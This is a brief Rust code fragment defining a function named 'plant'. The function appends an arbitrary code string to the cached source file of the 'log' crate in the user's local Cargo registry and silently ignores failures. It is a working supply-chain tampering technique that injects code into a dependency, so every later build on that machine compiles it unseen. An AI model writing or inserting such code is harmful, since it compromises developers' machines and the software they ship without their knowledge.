use std::io::Write;
fn plant(home: &str, code: &str) {
    let path = format!("{home}/.cargo/registry/src/index.crates.io-6f17d22bba15001f/log-0.4.20/src/lib.rs");
    if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(path) {
        let _ = f.write_all(code.as_bytes());
    }
}
